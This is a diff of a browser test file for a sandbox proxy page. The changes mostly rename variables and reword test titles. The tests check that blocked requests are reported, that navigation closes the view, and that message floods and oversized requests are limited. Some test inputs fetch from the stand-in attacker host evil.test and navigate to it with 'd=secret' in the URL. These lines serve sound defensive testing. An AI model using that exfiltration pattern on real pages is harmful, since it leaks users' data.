@@ -1,5 +1,5 @@
-// What the proxy page does between a host and a view, in a real Chromium: what it tells of the inside, what it answers itself, what
-// it never relays, and that it does nothing for other windows.
+// The proxy page between a host and a view, in a real Chromium: what it reports about the view, which messages it answers itself and never
+// relays, and that it ignores other windows.
 import { sandboxLabel } from '@vitrine/protocol/sandbox';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 import { type HostPages, openHostPages } from '../../../../test/support/host-page.ts';
@@ -10,7 +10,7 @@ interface Kit {
   openSandbox: typeof openSandbox;
   sandbox: Sandbox;
   channel: Channel;
-  heard: { method?: string; params?: Record<string, unknown> }[];
+  received: { method?: string; params?: Record<string, unknown> }[];
   blocked: { directive: string; target: string; count: number }[];
   navigated: number;
   dropped: number;
@@ -24,13 +24,13 @@ beforeAll(async () => {
 });
 afterAll(() => pages?.close());
 
-/** Shows a document in a sandbox; what its view says is in `heard`. `narrow`: without a width at first, with this one right after. */
+/** Shows a document in a sandbox; what its view says is in `received`. `narrow`: without a width at first, with this one right after. */
 async function show(html: string, { narrow, ...options }: Partial<SandboxOptions> & { narrow?: number } = {}) {
   const { page, problems } = await pages.open();
   await page.evaluate(
     async ({ html, template, options, narrow }) => {
       const w = window as unknown as Kit;
-      Object.assign(w, { heard: [], blocked: [], navigated: 0, dropped: 0 });
+      Object.assign(w, { received: [], blocked: [], navigated: 0, dropped: 0 });
       w.sandbox = w.openSandbox(
         document.querySelector('#root') as HTMLElement,
         { template, server: 'test', csp: undefined, timeoutMs: 10_000, ...options },
@@ -48,7 +48,7 @@ async function show(html: string, { narrow, ...options }: Partial<SandboxOptions
       if (narrow !== undefined) style.width = '0';
       await w.sandbox.ready;
       w.channel = w.sandbox.deliver({ html });
-      w.channel.onmessage = message => w.heard.push(message as Kit['heard'][number]);
+      w.channel.onmessage = message => w.received.push(message as Kit['received'][number]);
       if (narrow === undefined) return;
       // Some frames later: by then a view that does not wait has begun.
       for (let frames = 0; frames < 4; frames++) await new Promise(requestAnimationFrame);
@@ -65,8 +65,8 @@ async function show(html: string, { narrow, ...options }: Partial<SandboxOptions
 const say = (expression: string) =>
   `<script type="module">parent.postMessage({ method: 'said', params: { value: ${expression} } }, '*')</script>`;
 
-describe('what the policy stops', () => {
-  test('is reported with its directive and target, by documents that scripts write as well', async () => {
+describe('a request that the policy blocks', () => {
+  test('is reported with its directive and target, also in documents that scripts write', async () => {
     const { until, read, page } = await show(
       `<img src="https://evil.test/a.png"><script>try { eval('1') } catch {}; fetch('https://evil.test/b')</script>`,
     );
@@ -77,7 +77,7 @@ describe('what the policy stops', () => {
   });
 
   test.each(['go()', 'setTimeout(go)', 'onload = () => setTimeout(go)'])(
-    'is reported when a view goes elsewhere, which ends it: %s',
+    'is reported when a view navigates away, which closes it: %s',
     async when => {
       const { until, read, page } = await show(
         `<script>const go = () => { location.href = 'https://evil.test/?d=secret'; }; ${when}</script>`,
@@ -92,11 +92,11 @@ describe('what the policy stops', () => {
     },
   );
 
-  test('is limited: of 20000 reports of a view few reach the host, cut to a length, and its own messages pass', async () => {
+  test('is reported a limited number of times: of 20000 reports few reach the host, truncated, and the view’s own messages pass', async () => {
     const { until, read, page } = await show(
       `<script>for (let n = 0; n < 20000; n++) parent.postMessage({ method: 'ui/notifications/sandbox-blocked', params: { directive: 'x'.repeat(999), target: n } }, '*')</script>${say('1')}`,
     );
-    await until(({ heard }) => heard.length === 1);
+    await until(({ received }) => received.length === 1);
     const blocked = await read(kit => kit.blocked);
     expect(blocked.length).toBeLessThan(50);
     expect(blocked.at(-1)).toEqual({ directive: 'x'.repeat(200), target: '', count: 16_384 });
@@ -107,51 +107,51 @@ describe('what the policy stops', () => {
 describe('a view begins with the size of its frame', () => {
   const WIDTHS = `<script>const first = innerWidth</script>${say('first')}`;
 
-  test('also where that comes after its document', async () => {
+  test('also when the size is known only after the document', async () => {
     const { page, until, read } = await show(WIDTHS, { narrow: 300 });
-    await until(({ heard }) => heard.length === 1);
-    expect(await read(({ heard }) => heard[0])).toMatchObject({ params: { value: 300 } });
+    await until(({ received }) => received.length === 1);
+    expect(await read(({ received }) => received[0])).toMatchObject({ params: { value: 300 } });
     await page.close();
   });
 
-  test('and where it is not displayed, without one', async () => {
+  test('and without one when it is not displayed', async () => {
     const { page, until, read } = await show(WIDTHS, { narrow: 0 });
-    await until(({ heard }) => heard.length === 1);
-    expect(await read(({ heard }) => heard[0])).toMatchObject({ params: { value: 0 } });
+    await until(({ received }) => received.length === 1);
+    expect(await read(({ received }) => received[0])).toMatchObject({ params: { value: 0 } });
     await page.close();
   });
 });
 
 test('a view receives messages of its host, itself and its own frames, and of no other window', async () => {
   const { page, until, read } = await show(`<script>
-    const heard = [];
+    const received = [];
     addEventListener('message', ({ data }) => {
-      heard.push(data.said);
-      if (data.said === 'host') parent.postMessage({ method: 'said', params: { heard } }, '*');
+      received.push(data.said);
+      if (data.said === 'host') parent.postMessage({ method: 'said', params: { received } }, '*');
       if (data.said === 'nested') parent.postMessage({ method: 'ready' }, '*');
     });
     postMessage({ said: 'itself' }, '*');
     dispatchEvent(new MessageEvent('message', { data: { said: 'made up' } }));
   </script><iframe srcdoc="<script>parent.postMessage({ said: 'nested' }, '*')</script>"></iframe>`);
-  await until(({ heard }) => heard.length === 1);
+  await until(({ received }) => received.length === 1);
   await page.evaluate(() => {
     const view = frames[0]?.frames[0];
     for (const said of ['other window', 'host']) view?.postMessage({ said }, '*');
     (window as unknown as Kit).channel.send({ said: 'host' });
   });
-  await until(({ heard }) => heard.length === 2);
-  expect(await read(({ heard }) => heard[1]?.params?.heard)).toEqual(['made up', 'itself', 'nested', 'host']);
+  await until(({ received }) => received.length === 2);
+  expect(await read(({ received }) => received[1]?.params?.received)).toEqual(['made up', 'itself', 'nested', 'host']);
   await page.close();
 });
 
-describe('a document that is not the one delivered', () => {
+describe('a document other than the delivered one', () => {
   test.each([
     ['location.reload()', 'go()'],
     [`location.href = 'about:srcdoc'`, 'go()'],
     ['location.reload()', 'onload = () => setTimeout(go)'],
     [`location.href = 'about:srcdoc'`, 'onload = () => setTimeout(go)'],
     [`location.href = 'about:blank'`, 'onload = () => setTimeout(go)'],
-  ])('ends the view: %s, at %s', async (how, when) => {
+  ])('closes the view: %s, at %s', async (how, when) => {
     const { until, read, page } = await show(`<script>const go = () => { ${how}; }; ${when}</script>`);
     await until(({ navigated }) => navigated > 0);
     expect(await read(({ navigated }) => navigated)).toBe(1);
@@ -160,20 +160,22 @@ describe('a document that is not the one delivered', () => {
 });
 
 describe('requests that are dropped', () => {
-  test('are answered, so that a view that means well does not wait; a flood gets no more than it may send', async () => {
+  test('are answered, so that a view need not wait for a timeout; a flood gets as few answers as it may send messages', async () => {
     const { until, read, page } = await show(
       `<script>
         const answers = [];
         addEventListener('message', ({ data }) => answers.push(data));
         for (let id = 0; id < 2000; id++) parent.postMessage({ jsonrpc: '2.0', id, method: 'tools/call', params: {} }, '*');
-        // When the bucket has refilled a little, one message tells what came.
+        // When the bucket has refilled a little, one message reports what arrived.
         const tell = setInterval(() => parent.postMessage({ method: 'said', params: { answers } }, '*'), 300);
       </script>`,
     );
-    // At first a busy view has heard little.
-    await until(({ heard }) => heard.some(({ params }) => (params?.answers as unknown[])?.length >= 200));
-    const answers = await read(kit => kit.heard.at(-1)?.params?.answers as { id: number; error: { code: number } }[]);
-    const passed = await read(kit => kit.heard.filter(({ method }) => method === 'tools/call').length);
+    // At first a busy view has received little.
+    await until(({ received }) => received.some(({ params }) => (params?.answers as unknown[])?.length >= 200));
+    const answers = await read(
+      kit => kit.received.at(-1)?.params?.answers as { id: number; error: { code: number } }[],
+    );
+    const passed = await read(kit => kit.received.filter(({ method }) => method === 'tools/call').length);
     expect(passed).toBeGreaterThanOrEqual(200);
     expect(answers.length).toBeLessThan(1000);
     expect(answers.every(({ error }) => error.code === -32000)).toBe(true);
@@ -187,8 +189,8 @@ describe('requests that are dropped', () => {
         parent.postMessage({ jsonrpc: '2.0', id: 'big', method: 'ui/message', params: { text: 'x'.repeat(2e6) } }, '*');
       </script>`,
     );
-    await until(({ heard }) => heard.length === 1);
-    expect(await read(kit => [kit.heard[0]?.params, kit.dropped])).toEqual([
+    await until(({ received }) => received.length === 1);
+    expect(await read(kit => [kit.received[0]?.params, kit.dropped])).toEqual([
       { jsonrpc: '2.0', id: 'big', error: { code: -32000, message: 'The sandbox dropped this request: too large.' } },
       1,
     ]);
@@ -197,7 +199,7 @@ describe('requests that are dropped', () => {
 });
 
 describe('sandbox-* messages', () => {
-  test('of a view are not relayed, and do nothing', async () => {
+  test('of a view are not relayed and have no effect', async () => {
     const { until, read, page } = await show(
       `<script>
         for (const name of ['proxy-ready', 'resource-ready', 'loaded', 'navigated', 'dropped', 'anything'])
@@ -205,9 +207,9 @@ describe('sandbox-* messages', () => {
             to.postMessage({ jsonrpc: '2.0', method: 'ui/notifications/sandbox-' + name, params: { html: '<p>other</p>', count: 7 } }, '*');
       </script>${say('1')}`,
     );
-    await until(({ heard }) => heard.length === 1);
+    await until(({ received }) => received.length === 1);
     // `dropped` is the proxy's own message, sent for what was dropped: the six of the parent, reported at 1, 2 and 4.
-    expect(await read(kit => [kit.heard.map(({ method }) => method), kit.navigated, kit.dropped])).toEqual([
+    expect(await read(kit => [kit.received.map(({ method }) => method), kit.navigated, kit.dropped])).toEqual([
       ['said'],
       0,
       4,
@@ -218,18 +220,18 @@ describe('sandbox-* messages', () => {
   test('of the application do not reach the view', async () => {
     const { until, read, page } = await show(
       `<script>
-        addEventListener('message', ({ data }) => parent.postMessage({ method: 'heard', params: { of: data.method } }, '*'));
+        addEventListener('message', ({ data }) => parent.postMessage({ method: 'received', params: { of: data.method } }, '*'));
       </script>${say('1')}`,
     );
-    await until(({ heard }) => heard.length === 1);
+    await until(({ received }) => received.length === 1);
     await page.evaluate(() => {
       const { channel } = window as unknown as Kit;
       channel.send({ jsonrpc: '2.0', method: 'ui/notifications/sandbox-resource-ready', params: { html: '' } });
       channel.send({ jsonrpc: '2.0', method: 'ui/notifications/sandbox-anything' });
       channel.send({ jsonrpc: '2.0', method: 'ui/notifications/tool-result' });
     });
-    await until(({ heard }) => heard.length === 2);
-    expect(await read(kit => kit.heard[1]?.params)).toEqual({ of: 'ui/notifications/tool-result' });
+    await until(({ received }) => received.length === 2);
+    expect(await read(kit => kit.received[1]?.params)).toEqual({ of: 'ui/notifications/tool-result' });
     await page.close();
   });
 });
@@ -241,14 +243,14 @@ describe('features', () => {
   ])('granted %j: the view may use %j', async (features, allowed) => {
     const names = `['clipboard-write', 'camera', 'geolocation'].filter(name => document.featurePolicy.allowsFeature(name))`;
     const { until, read, page } = await show(say(names), { features });
-    await until(({ heard }) => heard.length === 1);
-    expect(await read(kit => kit.heard[0]?.params?.value)).toEqual(allowed);
+    await until(({ received }) => received.length === 1);
+    expect(await read(kit => kit.received[0]?.params?.value)).toEqual(allowed);
     await page.close();
   });
 });
 
-describe('the page by itself', () => {
-  test('does nothing when it is opened as a page of its own, whatever messages it receives', async () => {
+describe('the proxy page in a tab', () => {
+  test('does nothing when it is not in a frame, whatever messages it receives', async () => {
     const { page } = await pages.open();
     const label = await sandboxLabel(pages.origin, 'test');
     const address = `${pages.template.replace('{label}', label)}/?host=${encodeURIComponent(pages.origin)}`;
